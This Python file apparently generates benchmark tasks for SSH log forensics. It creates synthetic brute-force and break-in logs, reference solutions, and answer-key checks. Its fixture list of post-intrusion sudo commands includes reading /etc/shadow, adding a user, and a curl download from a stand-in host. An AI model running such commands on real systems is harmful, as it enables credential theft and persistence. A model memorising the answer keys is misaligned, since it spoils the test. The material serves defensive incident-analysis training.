"""Who broke in: questions about the log of an SSH server."""

import gzip
from random import Random

from gem_terminal.families.draft import Draft, python
from gem_terminal.families.words import FIRST, address

__all__ = ["draw"]

_EASY = """\
import collections, json, re
failed = collections.Counter()
for line in open('/app/log/auth.log'):
    match = re.search(r'Failed password for (?:invalid user )?\\S+ from (\\S+)', line)
    if match:
        failed[match[1]] += 1
ip, attempts = failed.most_common(1)[0]
report = {'attacker': ip, 'failed': attempts, 'addresses': len(failed)}
json.dump(report, open('/app/report.json', 'w'))
"""
_HARD = """\
import collections, glob, gzip, json, re
lines = []
for path in sorted(glob.glob('/app/log/auth.log*'), reverse=True):
    file = gzip.open(path, 'rt') if path.endswith('.gz') else open(path)
    lines += file.read().splitlines()
failed = collections.Counter()
for line in lines:
    match = re.search(r'(Failed|Accepted) password for (?:invalid user )?(\\S+) from (\\S+)', line)
    if match and match[1] == 'Failed':
        failed[match[3]] += 1
    elif match and failed[match[3]] >= 20:
        ip, user, time = match[3], match[2], line.split()[0]
        break
commands = [
    line.split('COMMAND=')[1] for line in lines
    if line.split()[0] >= time and f'sudo: {user} :' in line
]
report = {'attacker': ip, 'failed': failed[ip], 'user': user, 'time': time, 'commands': commands}
json.dump(report, open('/app/report.json', 'w'))
"""


def draw(random: Random, *, hard: bool) -> Draft:
    """Draw a task: count failures; if hard, find the break-in in rotated logs, and the rest."""
    return _hard(random) if hard else _easy(random)


def _easy(random: Random) -> Draft:
    clock = _Clock(random)
    addresses = _addresses(random, random.randint(4, 7))
    counts = random.sample(range(3, 40), len(addresses))
    events = [ip for ip, count in zip(addresses, counts, strict=True) for _ in range(count)]
    random.shuffle(events)
    lines = []
    for ip in events:
        lines.append(clock.failed(_user(random), ip))
        if random.random() < 0.2:
            lines.append(clock.accepted(_user(random), random.choice(addresses)))
    report = {
        "attacker": addresses[counts.index(max(counts))],
        "failed": max(counts),
        "addresses": len(addresses),
    }
    return Draft(
        instruction=(
            "/app/log/auth.log is the log of an SSH server. Write /app/report.json, an object with "
            "these keys:\n\n"
            '- "attacker": the address with the most failed passwords\n'
            '- "failed": how many failed passwords came from it (a number)\n'
            '- "addresses": from how many different addresses failed passwords came (a number)'
        ),
        files={"/app/log/auth.log": "".join(lines).encode()},
        checks=[{"kind": "json", "path": "/app/report.json", "value": report}],
        solution=python(_EASY),
    )


def _hard(random: Random) -> Draft:
    clock = _Clock(random)
    attacker, *others = _addresses(random, 8)
    user = _user(random)
    failures = random.randint(25, 60)
    lines: list[str] = []
    for _ in range(failures):
        lines.append(clock.failed(_user(random), attacker))
        lines += _noise(random, clock, others)
    lines.append(clock.accepted(user, attacker))
    time = lines[-1].split()[0]
    commands = [f"/usr/bin/{random.choice(_COMMANDS)}" for _ in range(random.randint(2, 4))]
    for command in commands:
        lines += _noise(random, clock, others)
        lines.append(clock.sudo(user, command))
    before = clock.sudo(user, "/usr/bin/apt update", earlier=True)
    lines.insert(0, before)
    for _ in range(10):
        lines += _noise(random, clock, others)
    cuts = sorted(random.sample(range(5, failures), 2))
    parts = {
        "auth.log.2.gz": gzip.compress("".join(lines[: cuts[0]]).encode(), mtime=0),
        "auth.log.1": "".join(lines[cuts[0] : cuts[1]]).encode(),
        "auth.log": "".join(lines[cuts[1] :]).encode(),
    }
    report = {
        "attacker": attacker,
        "failed": failures,
        "user": user,
        "time": time,
        "commands": commands,
    }
    return Draft(
        instruction=(
            "The folder /app/log has the log of an SSH server: auth.log.2.gz (the oldest part), "
            "auth.log.1 and auth.log. One address tried at least 20 wrong passwords, then it got "
            "in. Write /app/report.json, an object with these keys:\n\n"
            '- "attacker": that address\n'
            '- "failed": the number of its failed passwords\n'
            '- "user": the account that it got into\n'
            '- "time": when it got in, as the log has it\n'
            '- "commands": the list of commands (what follows COMMAND=) that this account ran with '
            "sudo after that, in their order"
        ),
        files={f"/app/log/{name}": content for name, content in parts.items()},
        checks=[{"kind": "json", "path": "/app/report.json", "value": report}],
        solution=python(_HARD),
    )


_COMMANDS = (
    "cat /etc/shadow",
    "useradd -m backup2",
    "curl -O http://10.0.0.9/x",
    "crontab -e",
    "ss -ltn",
)


def _noise(random: Random, clock: "_Clock", others: list[str]) -> list[str]:
    """Return lines of other users, of whom none fails often and then gets in."""
    kind = random.random()
    if kind < 0.2:
        return [clock.failed(_user(random), random.choice(others[:3]))]
    if kind < 0.4:
        return [clock.accepted(_user(random), random.choice(others[3:]))]
    return []


def _addresses(random: Random, count: int) -> list[str]:
    found: dict[str, None] = {}
    while len(found) < count:
        found[address(random)] = None
    return list(found)


def _user(random: Random) -> str:
    return random.choice(FIRST).lower()


class _Clock:
    """Writes lines of the log, each some seconds after the one before."""

    def __init__(self, random: Random) -> None:
        self._random = random
        self._day = random.randint(1, 28)
        self._second = random.randint(0, 20_000)

    def _line(self, text: str, *, earlier: bool = False) -> str:
        self._second += self._random.randint(1, 40)
        second = 0 if earlier else self._second
        clock = f"{second // 3600:02}:{second // 60 % 60:02}:{second % 60:02}"
        return f"2025-03-{self._day:02}T{clock} gate {text}\n"

    def failed(self, user: str, ip: str) -> str:
        kind = self._random.choice(["", "invalid user "])
        port = self._random.randint(30_000, 60_000)
        return self._line(
            f"sshd[{port % 977}]: Failed password for {kind}{user} from {ip} port {port}"
        )

    def accepted(self, user: str, ip: str) -> str:
        port = self._random.randint(30_000, 60_000)
        return self._line(f"sshd[{port % 977}]: Accepted password for {user} from {ip} port {port}")

    def sudo(self, user: str, command: str, *, earlier: bool = False) -> str:
        text = f"sudo: {user} : TTY=pts/0 ; USER=root ; COMMAND={command}"
        return self._line(text, earlier=earlier)
